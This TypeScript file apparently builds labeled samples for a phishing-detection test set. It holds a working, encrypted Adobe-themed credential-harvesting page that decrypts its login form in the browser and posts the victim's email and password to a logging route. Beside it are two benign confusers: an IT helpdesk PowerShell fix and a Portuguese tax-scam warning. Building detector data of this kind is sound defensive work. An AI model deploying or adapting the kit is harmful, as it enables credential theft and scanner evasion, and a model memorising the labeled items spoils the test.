import { createCipheriv } from 'node:crypto';
import type { Entry } from '../entry.js';
import { doc, html, js, jsonRoute, redirectRoute, fileRoute, crx, footer, logo, analytics, beacon } from '../parts/zm-kit.js';

// A few more families: AES-encrypted kit, voicemail lure, open-redirect chain, malicious extension;
// and benign confusers: a project's own airdrop claim, an IT article with a PowerShell command, a web wallet's mnemonic access page.

function aesGcm(plain: string, keyHex: string, ivHex: string): string {
  const c = createCipheriv('aes-256-gcm', Buffer.from(keyHex, 'hex'), Buffer.from(ivHex, 'hex'));
  const out = Buffer.concat([c.update(plain, 'utf8'), c.final(), c.getAuthTag()]);
  return out.toString('base64');
}
const K = '6f1c0b2a9d8e7f60514233241506f7e8d9cabbac9d8e7f60514233241506f7e8';
const IV = '0a1b2c3d4e5f60718293a4b5';

export const entries: Entry[] = [
  {
  id: 'zm-phish-adobe-aes-webcrypto',
  label: 'phishing',
  kind: 'encrypted-kit',
  url: 'https://acrobat-securefile.net/viewer/?doc=PO-77120',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Adobe Document Cloud</title><style>body{margin:0;background:#f5f5f5;font-family:Arial,sans-serif}</style></head><body><div id="app" style="text-align:center;padding-top:140px;color:#888">Opening secure document…</div>
<script>
(async()=>{const b=s=>Uint8Array.from(atob(s),c=>c.charCodeAt(0)),h=x=>new Uint8Array(x.match(/../g).map(v=>parseInt(v,16)));
const key=await crypto.subtle.importKey('raw',h('${K}'),'AES-GCM',false,['decrypt']);
const pt=await crypto.subtle.decrypt({name:'AES-GCM',iv:h('${IV}')},key,b('${aesGcm(`<div style="max-width:420px;margin:70px auto;background:#fff;padding:30px;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.15)"><div style="color:#fa0f00;font-weight:700;font-size:22px">Adobe Acrobat</div><p><b>PO-77120.pdf</b> (1.2 MB) has been shared with you.</p><p style="font-size:13px;color:#555">To read the document, please sign in with your email provider.</p><form id="f"><input id="e" type="email" placeholder="Email" style="width:100%;padding:10px;margin:6px 0"><input id="p" type="password" placeholder="Password" style="width:100%;padding:10px;margin:6px 0"><button style="width:100%;background:#1473e6;color:#fff;border:0;padding:12px;border-radius:20px">Sign in to view</button></form><p style="font-size:11px;color:#999">Copyright © 2026 Adobe. All rights reserved.</p></div>`, K, IV)}'));
document.getElementById('app').outerHTML=new TextDecoder().decode(pt);
document.getElementById('f').onsubmit=e=>{e.preventDefault();fetch('/viewer/api/log',{method:'POST',body:JSON.stringify({e:document.getElementById('e').value,p:document.getElementById('p').value,d:'PO-77120'})}).then(()=>{document.getElementById('p').value='';document.getElementById('p').placeholder='Incorrect password, try again'})};})();
</script></body></html>`,
  routes: { 'acrobat-securefile.net/viewer/api/log': jsonRoute({ s: 1 }) },
},
  {
  id: 'zm-clean-it-kb-powershell-fix-copy',
  label: 'clean',
  kind: 'help-article',
  url: 'https://helpdesk.fernway-systems.com/kb/outlook-stuck-offline',
  body: doc({
    title: 'Outlook stuck on "Working offline" – Fernway IT Helpdesk',
    css: `header{background:#222;color:#fff;padding:14px 30px}article{max-width:760px;margin:30px auto}pre{background:#012456;color:#eee;padding:12px;border-radius:4px}`,
    body: `<header>Fernway IT Helpdesk · Knowledge base</header><article><h1>Outlook stuck on "Working offline"</h1><p>Applies to: Windows 11 laptops enrolled in Intune.</p><ol><li>Close Outlook.</li><li>Open <b>Windows PowerShell</b> (Start → type PowerShell).</li><li>Copy and run the following to reset the Office identity cache:</li></ol>
<pre id="cmd">Get-Process outlook -ErrorAction SilentlyContinue | Stop-Process
Remove-Item "$env:LOCALAPPDATA\\Microsoft\\Office\\16.0\\Licensing" -Recurse -Force
ipconfig /flushdns</pre><button id="cp">Copy commands</button>
<p>4. Reopen Outlook and sign in with your Fernway account. If it still fails, open a ticket — we will never ask for your password.</p></article>
<script>document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(document.getElementById('cmd').textContent)}</script>`,
  }),
},
  {
  id: 'zm-clean-gov-pt-irs-reembolso-info',
  label: 'clean',
  kind: 'gov-info',
  url: 'https://www.portaldasfinancas.gov.pt/pt/destaques/alerta-emails-falsos-reembolso.html',
  body: doc({
    lang: 'pt',
    title: 'Alerta: mensagens falsas sobre reembolso de IRS – Portal das Finanças',
    css: `header{background:#004b87;color:#fff;padding:18px 30px}article{max-width:760px;margin:30px auto}.m{border:1px dashed #c00;padding:12px;background:#fff6f6;font-family:monospace;font-size:13px}`,
    body: `<header>Portal das Finanças · Autoridade Tributária e Aduaneira</header><article><h1>Alerta: mensagens falsas sobre reembolso de IRS</h1><p>A AT tem conhecimento de mensagens de correio eletrónico e SMS fraudulentas, como a seguinte:</p>
<div class="m">Caro contribuinte, tem um reembolso de 428,91 € pendente. Aceda a at-reembolso-pt[.]com e confirme os dados do seu cartão.</div>
<p>A AT nunca solicita dados de cartões bancários nem envia links para pagamento ou reembolso. Em caso de dúvida, aceda ao Portal das Finanças digitando o endereço diretamente no navegador.</p><p><a href="/pt/login.action">Iniciar sessão</a></p></article>`,
  }),
},
];
